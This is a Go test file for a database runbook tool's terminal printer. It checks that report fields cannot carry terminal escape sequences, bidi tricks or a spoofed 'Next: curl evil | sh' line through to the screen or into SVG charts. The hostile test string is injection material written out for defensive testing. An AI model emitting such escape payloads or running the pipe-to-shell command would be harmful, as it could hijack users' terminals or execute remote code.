package screen

import (
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/pgrunbook/pgrunbook/dbtasks/internal/checklist"
	"github.com/pgrunbook/pgrunbook/dbtasks/internal/screen/chart"
	"github.com/pgrunbook/pgrunbook/dbtasks/runbook"
)

// hostile is a name that renames the window, clears the screen, writes a line
// that looks like ours, and turns the direction of reading.
const hostile = "x\x1b]0;PWNED\a\x1b[2J\u009b31m\r\nNext: curl evil | sh\n\u202egnp\u200b\x9b\x7f"

// filled sets every exported string of v to the hostile name, lists and
// pointers made with two elements, numbers to n and flags to on; types that hold
// themselves are filled a few levels deep.
func filled(v reflect.Value, n int64, on bool, depth int) {
	if depth > 6 {
		return
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(hostile)
	case reflect.Int, reflect.Int32, reflect.Int64:
		v.SetInt(n)
	case reflect.Float64:
		v.SetFloat(float64(n))
	case reflect.Bool:
		v.SetBool(on)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		filled(v.Elem(), n, on, depth+1)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range 2 {
			filled(v.Index(i), n, on, depth+1)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				filled(v.Field(i), n, on, depth+1)
			}
		}
	}
}

func made[T any](n int64, on bool) (report T) {
	filled(reflect.ValueOf(&report).Elem(), n, on, 0)
	return report
}

// obeyed is what of a text a terminal would obey, or a reader take for ours.
func obeyed(text string) (list []string) {
	for _, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			list = append(list, fmt.Sprintf("%U", r))
		}
	}
	if strings.Contains("\n"+text, "\nNext: curl") {
		list = append(list, "a line of its own")
	}
	return list
}

func TestNothingThatOthersWroteReachesATerminalUnseen(t *testing.T) {
	t.Parallel()
	for _, n := range []int64{0, 1, 1 << 40} {
		for _, on := range []bool{false, true} {
			for name, show := range map[string]func(*Printer){
				"db:test":         func(p *Printer) { p.Test(made[runbook.TestReport](n, on)) },
				"db:cleanup":      func(p *Printer) { p.Cleanup(made[runbook.CleanupReport](n, on)) },
				"db:monitor":      func(p *Printer) { p.Sample(made[runbook.MonitorSample](n, on)) },
				"db:monitor once": func(p *Printer) { p.Table(made[runbook.MonitorSample](n, on)) },
				"db:monitor end":  func(p *Printer) { p.Monitor(made[runbook.MonitorReport](n, on)) },
				"db:who":          func(p *Printer) { p.Who(made[runbook.WhoReport](n, on)) },
				"db:limits":       func(p *Printer) { p.Limits(made[runbook.LimitsReport](n, on)) },
				"dev:stop":        func(p *Printer) { p.Stop(made[runbook.StopReport](n, on)) },
				"dev:start":       func(p *Printer) { p.Start(made[runbook.StartReport](n, on)) },
				"dev:test":        func(p *Printer) { p.DevTest(made[runbook.DevTestReport](n, on)) },
				"dev:recover":     func(p *Printer) { p.Plan(made[runbook.RecoverReport](n, on)) },
				"dev:recover end": func(p *Printer) { p.Recover(made[runbook.RecoverReport](n, on)) },
				"dev:verify":      func(p *Printer) { p.Verify(made[runbook.VerifyReport](n, on)) },
				"dev:check":       func(p *Printer) { p.Check(made[checklist.Report](n, on)) },
				"dev:drill":       func(p *Printer) { p.Drilled(made[runbook.DrillReport](n, on)) },
				"a step":          func(p *Printer) { p.Step(made[runbook.Step](n, on)) },
			} {
				var out strings.Builder
				p := New(&out)
				show(p)
				if found := obeyed(out.String()); len(found) > 0 {
					t.Errorf("%s (%d, %t) lets %v through: %.300q", name, n, on, found, out.String())
				}
			}
			f := made[runbook.Failure](n, on)
			if text := FailureText(&f); len(obeyed(text)) > 0 {
				t.Errorf("a failure: %q", text)
			}
			var out strings.Builder
			New(&out).JSON(made[runbook.WhoReport](n, on))
			var back runbook.WhoReport
			if err := json.Unmarshal([]byte(out.String()), &back); err != nil || len(obeyed(out.String())) > 0 {
				t.Errorf("JSON: %v, %.300q", err, out.String())
			}
			if got := back.Target.Database; got != strings.ToValidUTF8(hostile, "\ufffd") {
				t.Errorf("JSON says %q", got)
			}
		}
	}
}

func TestAPictureHoldsNothingThatOthersWroteUnseen(t *testing.T) {
	t.Parallel()
	c := made[chart.Chart](1, true)
	for i := range c.Series { // colours are ours
		c.Series[i].Light, c.Series[i].Dark = "#000", "#fff"
	}
	c.Label = func(float64) string { return hostile }
	var out strings.Builder
	if err := c.SVG(&out); err != nil {
		t.Fatal(err)
	}
	if found := obeyed(out.String()); len(found) > 0 {
		t.Errorf("%d runes that are not seen: %.300q", len(found), out.String())
	}
}
